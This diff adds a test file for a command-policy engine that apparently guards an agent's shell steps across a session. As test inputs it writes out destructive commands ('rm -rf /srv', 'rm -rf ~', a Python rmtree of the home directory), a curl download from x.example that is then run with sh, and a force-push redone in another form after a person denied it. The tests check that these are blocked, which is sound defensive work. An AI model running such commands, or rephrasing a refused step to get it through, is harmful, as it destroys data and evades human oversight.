@@ -1,0 +1,63 @@
+// What earlier steps of a session mean for later ones, through the whole decision path. ENGINE 11.
+import assert from 'node:assert/strict'
+import { describe, test } from 'node:test'
+import { compile_policy } from '#core/policy/compile.ts'
+import { BUILTIN_PACKS } from '#core/policy/packs/index.ts'
+import { deny } from '#test/support/approvals.ts'
+import { memory_ports } from '#test/support/ports.ts'
+import { decision_of, type Json, rpc_command, rpc_envelope, rpc_event, rpc_params, send } from '#test/support/rpc.ts'
+
+const policy = compile_policy(BUILTIN_PACKS, { self: { ports: [], files: [] } })
+
+function session() {
+  const ports = memory_ports({ policy, settings: { rate_limit_per_minute: 0 } })
+  const decide = async (step: string | Json) =>
+    decision_of(
+      await send(
+        ports,
+        typeof step === 'string' ? rpc_command(step) : rpc_envelope({ params: rpc_params({ event: rpc_event(step) }) }),
+      ),
+    )
+  return { ports, decide }
+}
+
+describe('a later step', () => {
+  test('that runs what an earlier one wrote is judged as its content', async () => {
+    const { decide } = session()
+    assert.equal((await decide("printf 'rm -rf /srv' > t")).decision, 'allow')
+    assert.notEqual((await decide('sh t')).decision, 'allow')
+    assert.equal((await decide("printf 'npm test' > t")).decision, 'allow')
+    assert.equal((await decide('sh t')).decision, 'allow')
+  })
+
+  test('that runs what an earlier one downloaded asks', async () => {
+    const { decide } = session()
+    await decide('curl -so /tmp/y https://x.example/y')
+    assert.notEqual((await decide('sh /tmp/y')).decision, 'allow')
+  })
+
+  test('of another session knows nothing of it', async () => {
+    const { decide } = session()
+    await decide('curl -so /tmp/y https://x.example/y')
+    const event = { session_id: 's-2', payload: { command: 'sh /tmp/y', cwd: '/home/dev/project' } }
+    assert.equal((await decide(event)).decision, 'allow')
+  })
+
+  test('that does in another language what was blocked is blocked', async () => {
+    const { decide } = session()
+    const first = await decide('rm -rf ~')
+    const again = await decide(`python3 -c "import shutil,os; shutil.rmtree(os.path.expanduser('~'))"`)
+    assert.deepEqual([first.decision, again.decision], ['block', 'block'])
+  })
+
+  test('that does what a person refused, in another form, is not let through and says so', async () => {
+    const { ports, decide } = session()
+    const first = await decide('git push --force origin main')
+    assert.equal(first.decision, 'defer')
+    await deny(ports, String(first.approval_id))
+    const again = await decide('git push -f origin main')
+    assert.notEqual(again.decision, 'allow')
+    const [row] = await ports.store.records({ session_id: 's-1', limit: 1 })
+    assert.match(row?.body ?? '', /core\.session\/repeat-after-deny/)
+  })
+})
